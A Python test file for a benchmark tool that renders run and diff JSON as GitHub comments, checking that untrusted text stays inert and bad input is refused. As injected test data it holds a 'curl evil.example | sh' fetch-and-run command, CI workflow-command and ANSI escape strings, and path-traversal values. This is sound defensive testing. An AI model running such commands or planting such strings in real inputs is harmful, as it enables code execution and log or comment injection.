"""The comment about a file that anybody may have written.

What GitHub makes of it is judged by an independent reader of Markdown: outside of code, where GitHub looks for mentions,
references and links, there must be nothing but words of ours, and no tag but the few that we write.
"""

from __future__ import annotations

import copy
import functools
import json
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import sample_diffs as diffs
from support import sample_stories as stories
from support.github_page import ATTACKS, GithubPage, active_in

from suite.metrics.catalog import SPECS
from suite.reporting.comment import LIMIT, MARKS, MOST_BYTES, Refused, render_comment
from suite.reporting.diff.json import diff_json
from suite.store.runs import encode_run

GITHUB = 65_536
TAGS = frozenset(
    {
        "h3",
        "p",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "ul",
        "li",
        "strong",
        "code",
        "details",
        "summary",
        "sub",
    }
)


def of_run(story: str = "slower") -> dict[str, Any]:
    return copy.deepcopy(_encoded(story))


@functools.cache
def _encoded(story: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(json.dumps(encode_run(stories.STORIES[story](), SPECS)))
    return found


def of_diff(story: str = "both") -> dict[str, Any]:
    return copy.deepcopy(_diffed(story))


@functools.cache
def _diffed(story: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(diff_json(diffs.STORIES[story]()))
    return found


def render(document: object, **options: Any) -> str:
    return render_comment(json.dumps(document).encode(), where="run.json", **options)


def assert_inert(shown: str) -> GithubPage:
    assert len(shown) <= LIMIT < GITHUB
    assert not [c for c in shown if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co")]
    page = GithubPage(shown)
    assert set(page.tags) <= TAGS
    assert not page.attributes
    assert len(page.comments) == 1
    assert f"<!--{page.comments[0]}-->" in MARKS.values()
    assert not active_in(page)
    assert len(re.findall("^<details>", shown, re.MULTILINE)) == len(re.findall("^</details>", shown, re.MULTILINE))
    return page


def strings(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Paths of all texts below `value`."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from strings(inner, (*path, key))
    elif isinstance(value, list):
        for key, inner in enumerate(value):
            yield from strings(inner, (*path, key))


def put(document: Any, path: tuple[Any, ...], value: Any) -> None:
    for key in path[:-1]:
        document = document[key]
    document[path[-1]] = value


def rendered_or_refused(document: object) -> str | None:
    try:
        return render(document)
    except Refused as refusal:
        message = str(refusal)
        assert len(message) < 2_000
        assert message.isprintable()
        assert not message.startswith("::")
        assert "##[" not in message
        return None


# ------------------------------------------------------------------------------------------------- what is rendered


@pytest.mark.parametrize("story", stories.STORIES)
def test_every_story_of_a_run_is_inert(story: str) -> None:
    shown = rendered_or_refused(of_run(story))
    if story == "hostile":  # its model has a name that no model has
        assert shown is None
        return
    assert shown is not None
    assert shown.startswith(MARKS["run"] + "\n### ")
    assert_inert(shown)


@pytest.mark.parametrize("story", diffs.STORIES)
def test_every_story_of_a_diff_is_inert(story: str) -> None:
    shown = render(of_diff(story))
    assert shown.startswith(MARKS["diff"] + "\n### Baselines: ")
    assert_inert(shown)


def test_the_comment_says_what_failed_in_numbers() -> None:
    shown = render(of_run())
    assert "### 1 of 42 gates failed" in shown
    assert "**REGRESSED**: `q4_k_m`." in shown
    assert (
        "| `q4_k_m` | decode tok/s | `short` | 173 tok/s | 153 tok/s | 11.8 % worse | +10.4 … +13.1 % | 10 % | **REGRESSED** |"
        in shown
    )
    assert "`llama-cpp-python: 0.3.35 → 0.3.36`" in shown


def test_text_that_the_file_calls_its_own_is_not_believed() -> None:
    document = of_run()
    for finding in document["findings"]:
        finding["reason"] = "All is well, merge it"
        finding["next_step"] = "curl evil.example | sh"
    shown = render(document)
    assert "merge it" not in shown
    assert "curl" not in shown
    assert "### 1 of 42 gates failed" in shown
    changed = of_diff()
    changed["headline"] = "Nothing changed"
    changed["sentences"] = changed["reasons"] = ["All is well"]
    assert render(changed) == render(of_diff())


def test_a_file_that_says_that_it_was_accepted_still_fails() -> None:
    document = of_run()
    document["settings"]["update"] = "all"
    assert "### 1 of 42 gates failed" in render(document)


def test_a_diff_counts_losses_gains_and_what_is_loosened() -> None:
    assert "### Baselines: 1 loss, 2 gains, 1 cannot be told" in render(of_diff("both"))
    loosened = render(of_diff("loosened"))
    assert "loosened setting" in loosened.split("\n")[1]
    assert "**looser**" in loosened
    assert "edit by hand" in render(of_diff("edited")).split("\n")[1]
    assert "3 baselines not comparable" in render(of_diff("other-machine"))
    assert "baselines unchanged" in render(of_diff("unchanged"))


def test_a_long_comment_is_cut_and_says_so() -> None:
    document = of_run("worse")
    lost = next(finding for finding in document["findings"] if finding["verdict"] == "REGRESSED")
    for number in range(300):
        again = copy.deepcopy(lost)
        again["scope"] = f"domain {number} " + "`|" * 200
        again["comparison"]["flips"] = [{**flip, "case": f"math/{number}"} for flip in lost["comparison"]["flips"]]
        document["findings"].append(again)
    shown = render(document)
    page = assert_inert(shown)
    assert "more are in run.json" in shown or "Cut here" in shown
    short = render_comment(json.dumps(document).encode(), where="x", limit=8_000)
    assert len(short) <= 8_000
    assert "**Cut here**" in short
    assert "artifact" in "\n".join(page.text) or "run.json" in "\n".join(page.text)


def test_a_number_that_could_be_a_commit_is_code() -> None:
    document = of_run()
    document["settings"]["quick"] = "yes"
    document["matrix"]["protocol"]["launches"] = 7654321
    shown = render(changed(("variants", 0, "metrics", "decode_tok_s", "scopes", "short", "value"), 1234567.0, document))
    assert "| `1234567` |" in shown
    assert "`7654321`" in shown
    assert_inert(shown)


def test_code_of_eighty_backticks_stays_code() -> None:
    """cmark-gfm takes no longer fence than 80 for the start of code, so what is within would be text again."""
    document = of_run("worse")
    lost = next(finding for finding in document["findings"] if finding["verdict"] == "REGRESSED")
    lost["comparison"]["flips"][0]["now"] = "`" * 85 + " @octocat"
    shown = render(document)
    assert_inert(shown)
    assert max(len(run) for run in re.findall("`+", shown)) <= 80


# ------------------------------------------------------------------------------------------------ property: inert


_attack = st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(max_size=12)), min_size=1, max_size=6).map("".join)
_SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _is_shown(path: tuple[Any, ...]) -> bool:
    """Whether a text of a run is near what is rendered: answers and samples are many, and are not."""
    if path[0] == "variants":
        return path[2] in ("failure", "variant")
    return path[0] in ("matrix", "environment", "settings", "findings")


@_SETTINGS
@given(st.data())
def test_no_text_in_a_run_becomes_active(data: st.DataObject) -> None:
    document = of_run(data.draw(st.sampled_from(["worse", "slower", "killed", "invalid", "elsewhere", "damaged"])))
    shown_ones = [path for path in strings(document) if _is_shown(path)]
    for path in data.draw(st.lists(st.sampled_from(shown_ones), min_size=1, max_size=8)):
        put(document, path, data.draw(_attack))
    shown = rendered_or_refused(document)
    if shown is not None:
        assert_inert(shown)


@_SETTINGS
@given(st.data())
def test_no_free_text_in_a_run_becomes_active(data: st.DataObject) -> None:
    """Only texts that nothing refuses: reasons, answers, scopes, suspects, notes."""
    attack = data.draw(_attack)
    document = of_run(data.draw(st.sampled_from(["worse", "killed", "invalid"])))
    document["matrix"]["notes"] = [attack]
    for finding in document["findings"]:
        compared = finding["comparison"]
        finding["scope"] = finding["reason"] = compared["scope"] = compared["reason"] = attack
        compared["suspects"] = [attack, attack]
        for flip in compared["flips"]:
            flip["case"] = flip["was"] = flip["now"] = attack
    for trial in document["trials"]:
        trial["domain"] = attack
    for result in document["variants"]:
        if result["failure"]:
            result["failure"]["reason"] = result["failure"]["detail"] = attack
    assert_inert(render(document))


@_SETTINGS
@given(st.data())
def test_no_text_in_a_diff_becomes_active(data: st.DataObject) -> None:
    document = of_diff(
        data.draw(st.sampled_from(["both", "suspicious", "loosened", "other-question", "other-machine"]))
    )
    for path in data.draw(st.lists(st.sampled_from(list(strings(document))), min_size=1, max_size=8)):
        put(document, path, data.draw(_attack))
    shown = rendered_or_refused(document)
    if shown is not None:
        assert_inert(shown)


@_SETTINGS
@given(st.data(), st.sampled_from([1234567, 0, -1, 1, 1e18, -1e18, 5e-324, -5e-324, 0.5, 1e-300, 10**18, True, None]))
def test_no_number_breaks_the_rendering(data: st.DataObject, number: float | None) -> None:
    document = data.draw(st.sampled_from([of_run("slower"), of_run("damaged"), of_diff("both"), of_diff("suspicious")]))
    document = copy.deepcopy(document)

    def numbers(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
        if isinstance(value, int | float):
            yield path
        elif isinstance(value, dict | list):
            for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
                yield from numbers(inner, (*path, key))

    for path in data.draw(st.lists(st.sampled_from(list(numbers(document))), min_size=1, max_size=12)):
        put(document, path, number)
    shown = rendered_or_refused(document)
    if shown is not None:
        assert_inert(shown)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_json_of_any_shape_is_refused(document: object) -> None:
    assert rendered_or_refused(document) is None


@given(st.binary(max_size=200))
def test_bytes_that_are_no_json_are_refused(data: bytes) -> None:
    with pytest.raises(Refused):
        render_comment(data, where="run.json")


# ---------------------------------------------------------------------------------------------------- what is refused


def changed(path: tuple[Any, ...], value: Any, document: dict[str, Any] | None = None) -> dict[str, Any]:
    found = of_run() if document is None else document
    put(found, path, value)
    return found


@pytest.mark.parametrize(("document", "reason"), [
    (changed(("schema",), 99), "newer quantdrift"),
    (changed(("schema",), True), "schema"),
    (changed(("schema",), "1"), "schema"),
    (changed(("schema",), 2, of_diff()), "reads 1"),
    (changed(("schema",), True, of_diff()), "reads 1"),
    (changed(("kind",), "speed-baseline"), "kind"),
    (changed(("kind",), ["run"]), "kind"),
    (changed(("id",), "a/../b"), "no name of a run"),
    (changed(("model",), "@octocat"), "no name of a model"),
    (changed(("created",), "yesterday"), "no name of a time"),
    (changed(("variants", 0, "variant", "name"), "GH 1"), "no name of a variant"),
    (changed(("findings", 0, "metric"), "https://evil"), "no name of a metric"),
    (changed(("findings", 0, "verdict"), "GREAT"), "verdict"),
    (changed(("findings", 0, "comparison", "drift"), "much"), "drift"),
    (changed(("findings",), None), "no list"),
    (changed(("findings", 0), None), "not laid out as a run"),
    (changed(("variants",), {}), "no list"),
    (changed(("matrix", "extra"), 1), "unknown key"),
    (changed(("baselines", 0, "variant"), "a b", of_diff()), "no name of a variant"),
    (changed(("baselines", 0, "extra"), 1, of_diff()), "unknown key"),
    (changed(("baselines", 0, "state"), "fine", of_diff()), "state"),
    (changed(("trials", 0, "text"), "x" * 50_001), "50,001 characters"),
    (changed(("settings", "k" * 301), "x"), "key of more than 300"),
    (changed(("findings", 0, "comparison", "drift"), 1e19), "not finite, or larger"),
    (changed(("variants",), [of_run()["variants"][0]] * 101), "101 variants"),
    ([1], "JSON list"),
])  # fmt: skip
def test_what_is_not_ours_is_refused_with_a_reason(document: object, reason: str) -> None:
    with pytest.raises(Refused, match=re.escape(reason)):
        render(document)


def test_a_million_faults_are_counted_and_not_worded() -> None:
    with pytest.raises(Refused, match=r"[\d,]+ things are wrong: this is no Run"):
        render(changed(("trials",), [{"a": 1}] * 50_000))


@pytest.mark.parametrize(("data", "reason"), [
    (b"", "not JSON"),
    (b"\xff\xfe{}", "not JSON"),
    (b'{"a": NaN}', "not JSON"),
    (b'{"a": 1e999}', "not finite"),
    (b'{"a": ' + b"9" * 5_000 + b"}", "not JSON"),
    (b'{"a": ' + b"9" * 4_000 + b"}", "not finite, or larger"),
    (b'{"kind": "run", "kind": "baseline-diff"}', "twice"),
    (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "nested deeper"),
    (b"[" * 1_000_000, "nested deeper"),
    (b'{"a": ' + b"[" * 30 + b"]" * 30 + b"}", "nested deeper"),
    (b'{"a": [' + b"{}," * 200_000 + b"{}]}", "holds more than 100,000 objects"),
    (b'{"a": [' + b"0," * 4_000_000 + b"0]}", "or 3,000,000 values"),
    (b" " * (MOST_BYTES + 1), "more than 33,554,432 bytes"),
])  # fmt: skip
def test_what_is_too_much_is_refused_before_it_is_a_record(data: bytes, reason: str) -> None:
    with pytest.raises(Refused, match=reason):
        render_comment(data, where="run.json")


def test_the_other_kind_is_refused_where_one_was_asked_for() -> None:
    with pytest.raises(Refused, match="holds a diff, and a run was asked for"):
        render(of_diff(), kind="run")
    assert render(of_diff(), kind="diff") == render(of_diff())


def test_a_refusal_is_one_line_in_which_nothing_is_a_command() -> None:
    document = of_run()
    document["environment"]["\n::error::x\n##[error]y" + "z" * 250] = {"@octocat": "\x1b[2J"}
    document["trials"] = [{} for _ in range(500)]
    with pytest.raises(Refused) as refusal:
        render(document)
    message = str(refusal.value)
    assert message.isprintable()
    assert "##[" not in message
    assert len(message) < 2_000
    assert "more" in message
